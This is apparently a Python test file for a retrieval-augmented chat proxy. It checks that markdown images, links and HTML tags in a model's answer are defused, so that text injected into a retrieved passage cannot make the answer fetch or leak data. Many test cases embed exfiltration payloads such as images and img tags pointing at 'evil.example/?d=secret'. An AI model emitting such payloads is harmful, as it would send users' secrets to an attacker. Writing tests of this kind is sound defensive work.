"""What a poisoned passage can make of an answer: nothing that loads, no link that carries data."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from proxy.rag.links import MAX_TARGET_CHARS, disarmed_link, disarmed_tag
from proxy.rag.markers import MarkerScanner
from tests.support.chat_events import cut

EVIL = "https://evil.example/?d=secret"
GOOD = "https://book.example/ownership"
RENDERER = MarkdownIt("commonmark", {"html": True})


def is_known(target: str) -> bool:
    return target == GOOD


def written(*pieces: str) -> str:
    scanner = MarkerScanner(2, is_known)
    return "".join([*map(scanner.feed, pieces), scanner.finish()])


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (f"![pixel]({EVIL})", f"[pixel] (`{EVIL}`)"),
        (f"See ![pixel]({GOOD}).", f"See [pixel]({GOOD})."),
        (f"[here]({EVIL} 'a title')", f"[here] (`{EVIL}` 'a title')"),
        (f"[here]({GOOD} 'a title')", f"[here]({GOOD} 'a title')"),
        (f"[here]({GOOD}((secret)))", f"[here] (`{GOOD}`((secret)))"),
        (f"[here](<{EVIL}>)", f"[here] (`{EVIL}`)"),
        (f"[![a]({EVIL})]({EVIL})", f"[[a] (`{EVIL}`)] (`{EVIL}`)"),
        (f"![a][1]\n\n[1]: {EVIL}", f"[a][1]\n\n[1] : {EVIL}"),
        (f"![a][x]\n\n[x]: {EVIL}", f"[a][x]\n\n[x] : {EVIL}"),
        (f"<img src='{EVIL}'>", f"&lt;img src='{EVIL}'>"),
        ("a <b>bold</b> <br/>word", "a <b>bold</b> <br/>word"),
        ("a <b onclick='x'>", "a &lt;b onclick='x'>"),
        ("<div>", "&lt;div>"),
        ("a <!-- b", "a &lt;!-- b"),
        ("> <b>", "> &lt;b>"),
        ("1. <b>", "1. &lt;b>"),
        ("a\r\nb\rc", "a\nbc"),
        ("1 < 2 <3 <", "1 < 2 <3 <"),
        (f"see <{EVIL}>", f"see &lt;{EVIL}>"),
        ("`![a](x)` and `<img src=x>`", "`![a](x)` and `<img src=x>`"),
        ("```\n![a](x) <img src=x>\n```", "```\n![a](x) <img src=x>\n```"),
        # What only looks like code.
        (f"` ![a]({EVIL})", f"` [a] (`{EVIL}`)"),
        (f"```x`\n![a]({EVIL})", f"```x`\n[a] (`{EVIL}`)"),
        (f"    ```\n![a]({EVIL})", f"    ```\n[a] (`{EVIL}`)"),
        ("\\`<img src=x>`", "\\`&lt;img src=x>`"),
        ("a `\n`<img src=x>`\n\n`<b c>`", "a `\n`&lt;img src=x>`\n\n`<b c>`"),
        ("- a\n  ```\n  <b c>\n<img src=x>", "- a\n  ```\n  <b c>\n&lt;img src=x>"),
        ("```\n``` x\n<b c>\n```\n<b c>", "```\n``` x\n<b c>\n```\n&lt;b c>"),
        ("Wow! [1] Really!", "Wow! [1] Really!"),
        ("a] b", "a] b"),
        ("items[0](x", "items[0] (`x`"),
    ],
)
def test_links_images_and_tags_lose_their_sting(said: str, shown: str) -> None:
    assert written(said) == shown
    assert written(*said) == shown


def test_without_a_test_links_are_left_alone() -> None:
    said = f"![a]({EVIL}) [b]: <img> `x`"
    scanner = MarkerScanner(0)
    assert scanner.feed(said) + scanner.finish() == said


def test_an_address_without_end_leads_nowhere_and_is_not_waited_for() -> None:
    endless = "x" * MAX_TARGET_CHARS
    assert disarmed_link(endless, lambda _: True, is_end=False) == (f"] (`{endless}`", len(endless))
    assert disarmed_link("((" * 9, is_known, is_end=False) == ("] (", 0)
    assert disarmed_link("(" + endless, is_known, is_end=False) == ("] (", 0)
    assert disarmed_link("https://", is_known, is_end=False) is None
    assert disarmed_tag("im", begins_line=False, is_end=False) is None
    assert disarmed_tag("im", begins_line=False, is_end=True) == ("&lt;", 0)


MARKUP = [
    "![",
    "[",
    "]",
    "](",
    ")",
    "(",
    ">",
    "<img src=",
    "<b ",
    "<!--",
    "<div>",
    "`",
    "```",
    "~~~",
]
OTHER = ["\n", "\n\n", "    ", " ", "a", "!", "\\", "- ", "> ", "x`", "1. ", "[1]", "]: "]
HOSTILE = st.lists(
    st.sampled_from([*MARKUP, *OTHER, EVIL, GOOD, f"<{EVIL}>", "`<img src=x>`", "\r"]), max_size=24
).map("".join)


def inline_tokens(tokens: list[Token]) -> list[Token]:
    return [t for token in tokens for t in (token, *(token.children or []))]


@settings(max_examples=500)
@given(HOSTILE)
@example(f"```x`\n![a]({EVIL})")
@example(f"`\n`![a]({EVIL})")
@example("> <div>\n> `<img src=x>`")
@example("<https://x`y> ` ` <img src=x> `")
@example("- a\n  ```\n```\n```\n<img src=x>")
@example("x\r<div>\r`<img src=x>`")
def test_no_answer_loads_anything_or_hides_where_it_leads(said: str) -> None:
    for token in inline_tokens(RENDERER.parse(written(said))):
        assert token.type != "image"
        if token.type == "link_open":
            assert "evil" not in str(token.attrs["href"])
        if token.type in {"html_inline", "html_block"}:
            assert not re.search(r"<\w[^>]*\ssrc=", token.content)


@given(st.data(), HOSTILE)
def test_however_the_answer_is_cut_the_outcome_is_the_same(data: st.DataObject, said: str) -> None:
    assert written(*data.draw(cut(said))) == written(said)
